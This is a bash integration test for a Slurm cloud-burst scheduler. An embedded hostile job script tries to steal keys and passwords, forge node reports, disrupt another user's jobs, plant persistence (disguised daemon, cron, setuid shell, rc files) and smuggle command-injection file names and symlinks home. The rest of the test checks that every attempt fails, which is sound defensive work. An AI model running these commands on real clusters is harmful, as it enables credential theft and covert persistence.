#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
#
# A hostile user: her job on a rented node looks for secrets, attacks the daemons and the nodes of
# others, leaves things behind and sends home what it likes. Another user's job meets nothing of it,
# her own next job finds on the same node what is at home, and at home nothing of anybody else's has
# changed.

# shellcheck disable=SC2016,SC2119,SC2154
. "$(dirname "$0")/lib.sh"

conf=$(mktemp -d "${TMPDIR:-/tmp}/burst-conf.XXXXXX")
sed -E '/^  deny_users:/d; s/^node_idle:.*/node_idle: 10m/' "$topdir/etc/demo/burst.yaml" >"$conf/burst.yaml"
start_cluster --with-burst --conf "$conf"
rm -rf "$conf"
filler=$(fill_local)

# --- what there is at home: a password in slurm.conf, bob's files, alice's own
hub sh -c 'echo JobCompPass=sentinel-of-slurm.conf >>/etc/slurm/slurm.conf && scontrol reconfigure
    echo sentinel-of-root-home >/root/private && chmod 600 /root/private'
as bob sh -c 'mkdir dir .ssh && echo mine >dir/file && echo key >.ssh/authorized_keys &&
    echo victim >victim && chmod 666 victim && chmod 755 . dir'
as alice sh -c 'mkdir -p work/sub .ssh && echo clean >work/input && echo file >work/sub/file &&
    echo home-key >.ssh/authorized_keys && echo home-rc >.bashrc'

# Everything at home that is not hers to change from a node
others()
{
    hub sh -c 'find /root /home/bob /home/alice/.ssh /home/alice/.bashrc /etc/passwd /etc/group /etc/shadow \
        /etc/cron* /etc/profile* /etc/ssh /etc/burst /etc/munge /etc/slurm /var/spool/cron /usr/local -xdev \
        -printf "%p %y %m %U:%G %s %T@ %l\n" 2>/dev/null | sort; ls -A /home /'
}
hex() { od -An -v -tx1 | tr -d ' \n'; }
# Lines "NAME HEX": what no job may ever see
secrets()
{
    local file
    echo "munge.key $(hub head -c 32 /etc/munge/munge.key | hex)"
    echo "id_ed25519 $(hub sed -n 4p /etc/burst/id_ed25519 | head -c 40 | hex)"
    for file in admin aws gcp azure; do
        echo "$file.token $(hub head -n 1 "/etc/burst/$file.token" | tr -d '\n' | hex)"
    done
    echo "private $(printf sentinel-of-root-home | hex)"
    echo "slurm.conf $(printf sentinel-of-slurm.conf | hex)"
}

# on_rented NODE COMMAND...: there, as root
on_rented()
{
    hub sh -c 'node=$1; shift
        for pid in $(pgrep -x sshd); do
            [ "$(nsenter -t $pid -u hostname)" != "$node" ] || exec nsenter -t $pid -m -u -n -i -p -- "$@"
        done; exit 1' sh "$@"
}
node_of() { as root squeue -h -j "$1" -o %N; }
# its_instance NODE [FIELD]
its_instance()
{
    slurm burst nodes --json | jq -r --arg n "$1" ".[] | select(.node == \$n) | .${2-instance}"
}

# --- bob's job, which is to be left alone
b=$(as bob sbatch --parsable --burst=only --burst-clouds=aws -t 20 -o bob.txt \
    --wrap 'until [ -e /run/go ]; do sleep 0.2; done; echo "fine $(id -un)"')
wait_for "job_is $b RUNNING" 60 || bail_out "bob's job does not start"
bobs=$(node_of "$b")

# --- alice's job
put alice work/evild <<'END'
#!/bin/bash
# What is left behind: takes a step's name, has no terminal, no parent and no session of the job's
while :; do
    date +%s%N >/tmp/evil.alive
    echo evil >/home/alice/work/input
    echo evil >/home/alice/work/injected
    sleep 0.1
done
END
put alice work/hostile.sh <<'END'
#!/bin/bash
#SBATCH -t 20
# DID lines: what should not have worked
try() { timeout 20 "$@" </dev/null >/dev/null 2>&1 && echo "DID $*"; }
until [[ -s /tmp/known ]]; do sleep 0.2; done
. /tmp/known # even what the instances are called is known: mine, other, other_job, other_address
exec >said 2>/dev/null

# secrets
{
    find /etc /root /run /srv /opt /tmp /dev/shm /var/lib/munge /var/lib/slurm /var/spool /var/log /home \
        -type f -size -300k -readable ! -name loot -exec cat {} +
    for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do timeout 2 cat "$f"; done
    scontrol show config
    scontrol show job
    scontrol show node
} >loot
for f in /etc/munge/munge.key /etc/shadow /etc/gshadow /run/burst-node/agent.conf /run/burst-node/lib.sh \
    /root/.ssh/authorized_keys /etc/ssh/ssh_host_ed25519_key /etc/burst/id_ed25519 /proc/1/environ; do
    try cat "$f"
done
try ls /run/burst-node
try ls /root

# root's things on the node
for f in /etc/passwd /etc/hosts /etc/slurm/slurm.conf /etc/cron.d/evil /etc/profile.d/evil.sh /etc/ld.so.preload \
    /usr/local/bin/munge /usr/local/sbin/slurmd /run/burst-stage/.born /run/burst-stage/evil \
    /run/burst-node/agent.pid /run/munge/munged.pid /root/.ssh/authorized_keys; do
    try sh -c ": >>$f"
done
try rm -f /run/munge/munge.socket.2
try rm -rf /run/burst-stage
try mknod null c 1 3
try chown 0:0 hostile.sh
try ln /etc/shadow hard-shadow
try mount -t tmpfs none /etc
for p in $(pgrep -u root); do try kill -9 "$p"; done

# the daemons at home: reports in the name of nodes
say() # TEXT: HTTP status
{
    curl -s -m 10 --noproxy '*' -o /dev/null -w '%{http_code}\n' --data-binary @- http://10.88.0.1:8899/v1/node <<<"$1"
}
for id in "$mine" "$other"; do
    notice="{\"instance\":\"$id\",\"event\":\"notice\",\"deadline\":$(($(date +%s) + 3))}"
    echo "REPORT $(say "$notice") $(say "$(munge -s "$notice")")"
done
try bash -c 'exec 4<>/dev/tcp/10.88.0.1/8700'
# Slurm
try scontrol update nodename="$(hostname)" state=down reason=evil
try scontrol update nodename=node1 state=drain reason=evil
try scontrol update partitionname=aws state=down
try scontrol update jobid="$SLURM_JOB_ID" admincomment='burst:1 eligible'
try scontrol update jobid="$other_job" timelimit=1
try scontrol requeue "$other_job"
try scancel "$other_job"
try srun --jobid="$other_job" --overlap true
try scontrol shutdown
# the nodes of others
ssh-keygen -q -t ed25519 -N '' -f key </dev/null
for who in root bob alice munge; do
    try ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 \
        -i key "$who@$other_address" true
done

# what is left behind
((setsid bash -c 'exec -a "slurmstepd: [1.0]" /bin/bash ./evild' </dev/null >/dev/null 2>&1 &) &)
(nohup setsid ./evild </dev/null >/dev/null 2>&1 &)
for d in /tmp /dev/shm /var/tmp /run/lock /run/user; do echo evil >"$d/evil.file"; done
cp /bin/bash /tmp/evil.shell && chmod 6777 /tmp/evil.shell
echo '* * * * * touch /tmp/evil.cron' | crontab -
echo 'touch /tmp/evil.at' | at now
mkdir -p ~/.ssh ~/.config/systemd/user
echo evil >~/.ssh/authorized_keys
echo 'touch /tmp/evil.rc' | tee -a ~/.bashrc ~/.profile ~/.bash_profile ~/.ssh/rc ~/.config/systemd/user/evil.service >/dev/null

# what is sent home
ln -s /home/bob link-bob; ln -s /root link-root; ln -s /etc/shadow link-shadow; ln -s ../../bob link-up
ln -s /home/bob/victim victim
rm -rf sub && mkdir -p /tmp/fake && echo evil >/tmp/fake/file && echo evil >/tmp/fake/victim && ln -s /tmp/fake sub
mkfifo pipe
perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Local => "socket", Listen => 1)'
cp /bin/true suid; chmod 6777 suid
mkdir .ssh && echo evil >.ssh/authorized_keys
mkdir odd && cd odd || exit
for n in $'new\nline' -rf '--checkpoint-action=exec=sh' '$(touch pwned)' '`touch pwned`' ' lead' $'\xff\xfe' '*' 'a\b' \
    "it's" '"q"' ... .burst-1-0.tmp .wh.x "$(printf 'x%.0s' {1..255})" $'esc\e[31m'; do
    printf odd >./"$n"
done
cd ..
mkdir closed && echo x >closed/x && chmod 0 closed
rm hostile.out; ln -s /home/bob/victim hostile.out
echo END
END
victims=$(others)
a=$(as alice sh -c 'cd work && exec sbatch --parsable --burst=only --burst-clouds=aws -o hostile.out hostile.sh')
wait_for "job_is $a RUNNING" 60 || bail_out "the hostile job does not start"
hers=$(node_of "$a")
own=$(its_instance "$hers") other=$(its_instance "$bobs")
like "$own $other" '^[^ ]+ [^ ]+$' "both users have an instance"
isnt "$own" "$other" "each his own"
address=$(as root scontrol -o show node "$bobs" | sed -n 's/.* NodeAddr=\([^ ]*\).*/\1/p')
on_rented "$hers" sh -c 'printf "%s\n" "$1" >/tmp/known.new && chmod 644 /tmp/known.new && mv /tmp/known.new /tmp/known' \
    sh "mine=$own other=$other other_job=$b other_address=$address"
ok "the hostile job ends and its results are home" burst_job "$a" 200
is "$(runs "$a")" aws:COMPLETED "its reports in the name of its own node have ended nothing"
is "$(job_state "$b"):$(node_of "$b")" "RUNNING:$bobs" "nor those in the name of bob's"

# --- what it has learned and done
said=$(as alice cat work/said)
like "$said" 'END$' "it came to its last line"
is "$(grep ^DID <<<"$said")" "" "nothing that it should not be able to do has worked"
is "$(grep ^REPORT <<<"$said")" "REPORT 403 403
REPORT 403 403" "burstd believes no report that root of the very node has not signed"
ok "it has read what can be read" as alice test -s work/loot
as alice cat work/loot | hex >"$DIR/loot"
found=$(secrets | while read -r name value; do
    [[ ${#value} -lt 20 ]] && echo "$name: too short to look for"
    ! grep -qF "$value" "$DIR/loot" || echo "$name"
done)
is "$found" "" "no key, token or password is among it"

# --- what has come home
is "$(others)" "$victims" "nothing of others, of the system or of what her home keeps to itself has changed"
is "$(as bob cat victim dir/file | xargs)" "victim mine" "bob's files are his"
is "$(hub find /home/alice ! -user alice -o ! -group alice)" "" "all that came is hers"
is "$(hub find /home/alice -perm /6000 -o -type p -o -type s -o -type b -o -type c)" "" \
    "no set-id programs, pipes, sockets or devices came"
is "$(hub find /home/alice/work -type l)" "" "no link that leads out came"
is "$(as alice cat work/sub/file)" file "a directory that was replaced by a link is what it was"
is "$(hub sh -c 'find / -xdev -name "pwned*" 2>/dev/null')" "" "no name was taken for a command"
is "$(as alice sh -c 'cd work/odd && find . -type f -exec cat {} + | wc -c')" 48 "sixteen odd names came whole"

# --- on the node, after the job
is "$(its_instance "$hers" state)" idle "the node is idle"
ok "her daemon still runs there" on_rented "$hers" pgrep -u alice -f evild
fails "a process with the name of a step does not hold the node's timer" \
    on_rented "$hers" sh -c 'cd /run/burst-node && . ./lib.sh && step_runs'
ok "the agent lives" on_rented "$hers" sh -c 'kill -0 "$(cat /run/burst-node/agent.pid)"'

# --- bob's next job gets another instance
put bob look.sh <<'END'
#!/bin/bash
#SBATCH -t 10 -o look.txt
ls -A /tmp /dev/shm /var/tmp /run/lock /var/spool/cron/crontabs 2>/dev/null | grep -i evil
find / -xdev -user alice 2>/dev/null
pgrep -u 2001
ls -A /home | grep -v bob
echo END
END
c=$(as bob sbatch --parsable --burst=only --burst-clouds=aws look.sh)
ok "bob's next job ends" burst_job "$c" 60
isnt "$(rented "$c")" "" "it got a new instance although hers was idle"
is "$(as bob cat look.txt)" END "and finds nothing of hers there"

# --- her next job gets the same one, with what is at home
as alice sh -c 'chmod -R u+rwx work && find work -mindepth 1 -delete && mkdir work/sub && echo clean >work/input && echo file >work/sub/file'
put alice work/second.sh <<'END'
#!/bin/bash
#SBATCH -t 10 -o second.out
find . -mindepth 1 ! -name second.out -printf '%P %y %m\n' | sort
cat input sub/file
pgrep -u alice -f evild
echo END
END
expected="$(as alice sh -c "cd work && find . -mindepth 1 -printf '%P %y %m\n' | sort")
clean
file
END"
is "$(its_instance "$hers" state)" idle "her instance is idle still"
d=$(as alice sh -c 'cd work && exec sbatch --parsable --burst=only --burst-clouds=aws second.sh')
ok "her next job ends" burst_job "$d" 60
is "$(rented "$d"):$(acct "$d" nodelist)" ":$hers" "on the same node"
is "$(as alice cat work/second.out)" "$expected" "it finds what is at home, and nothing that the first has left runs"
is "$(as alice cat work/input work/sub/file | xargs):$(as alice ls -A work | xargs)" \
    "clean file:input second.out second.sh sub" "and nothing else comes home"

# --- a job that puts something else in the place of its directory
victims=$(others)
put alice work/swap.sh <<'END'
#!/bin/bash
#SBATCH -t 10 -o swap.out
cd && mkdir /tmp/bob && echo evil >/tmp/bob/victim && mv work gone && ln -s /tmp/bob work && echo END
END
e=$(as alice sh -c 'cd work && exec sbatch --parsable --burst=only --burst-clouds=aws swap.sh')
ok "a job that replaces its directory by a link ends" burst_job "$e" 90
is "$(hub stat -c %F:%U /home/alice/work)" directory:alice "at home it is the directory that it was"
is "$(others)" "$victims" "nothing of others has changed"

# --- at home, as a user who has an account there
raw() # SOCKET LINE: the answer
{
    as alice perl -MIO::Socket::UNIX -e '
        my $s = IO::Socket::UNIX->new(Peer => $ARGV[0]) or print("no: $!") && exit;
        $s->print($ARGV[1], "\n");
        print scalar <$s>' "$1" "$2"
}
like "$(raw /run/burst/stage.sock '{"op":"append","uid":2002,"gid":2002,"user":"bob","path":"/home/bob/x","text":"x"}')" \
    '^no: Permission denied' "burst-stagerd is not for her"
for method in job_done job_ready; do
    like "$(raw /run/burst/burstd.sock "{\"method\":\"$method\",\"params\":{\"job_id\":$b,\"nodes\":\"$bobs\"}}")" \
        '"code":"denied"' "burstd takes no $method from her"
done
fails "burst terminate is for operators" as alice burst terminate "$other"
fails "so is burst drain" as alice burst drain "$bobs"
for file in /run/burst /var/lib/burst /etc/burst /var/spool/burst; do
    is "$(as alice find "$file" -writable ! -type s 2>/dev/null)" "" "she can write nothing in $file"
done

# --- bob's first job has noticed nothing
on_rented "$bobs" touch /run/go
ok "bob's first job ends" burst_job "$b" 60
is "$(runs "$b"):$(as bob cat bob.txt)" "aws:COMPLETED:fine bob" "in one attempt, with its result"

for instance in $(slurm burst nodes --json | jq -r '.[].instance'); do
    slurm burst terminate "$instance" >/dev/null
done
as alice scancel "$filler"
bills_agree
done_testing
